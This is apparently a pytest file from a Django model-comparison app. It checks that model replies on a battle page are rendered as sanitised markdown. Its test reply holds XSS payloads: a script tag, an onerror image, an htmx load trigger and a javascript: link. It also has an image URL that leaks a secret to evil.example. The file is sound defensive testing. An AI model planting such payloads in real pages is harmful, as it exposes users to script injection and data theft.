"""The battle page shows model replies as sanitised markdown inside an hx-disable container."""

import pytest

from tests.fake_llm import Reply
from tests.helpers import chat
from tests.tournaments.test_rendering import assert_safe_tree, parse
from tournaments.services import battle_start

pytestmark = pytest.mark.django_db

HOSTILE_REPLY = """Side {side}: here is **the plan**.

<script>alert(1)</script>
<img src=x onerror=alert(1)>
<div hx-get="/battle/next/" hx-trigger="load">x</div>

![](https://evil.example/?q=secret)

1. [docs](https://docs.example/), [plain](http://plain.example/) and [bad](javascript:alert(1))
2. ```python
   print("hi")
   ```
"""


def test_it_renders_each_reply_as_sanitised_markdown_inside_an_hx_disable_container(
    rater, rater_client, fake_llm
):
    battle = battle_start(rater=rater)
    fake_llm.script(battle.model_a.api_model, Reply(HOSTILE_REPLY.format(side="A")))
    fake_llm.script(battle.model_b.api_model, Reply(HOSTILE_REPLY.format(side="B")))
    chat(battle, "Plan my week")

    response = rater_client.get(f"/battle/{battle.public_id}/", HTTP_HX_REQUEST="true")

    html = response.content.decode()
    containers = [
        element for element in parse(html).iter() if element.tag == "div" and "hx-disable" in element.attrib
    ]
    assert [c.attrib["class"] for c in containers] == ["text markdown", "text markdown"]
    for side, container in zip("AB", containers, strict=True):
        assert_safe_tree(container)
        text = "".join(container.itertext())
        assert f"Side {side}: here is the plan." in text
        assert container.find(".//strong").text == "the plan"
        assert container.find(".//pre/code").text == 'print("hi")\n'
        assert [a.get("href") for a in container.iter("a")] == ["https://docs.example/", None]
    for element in parse(html).iter():
        assert not any(name.startswith("on") for name in element.attrib), element.attrib
        assert element.get("hx-trigger") != "load"
    # Raw HTML in a reply is shown as escaped text, never as markup; the image's URL is gone entirely.
    for gone in ("<script", "<img", "evil.example"):
        assert gone not in html
    assert "Plan my week" in html  # the rater's own message is still plain text
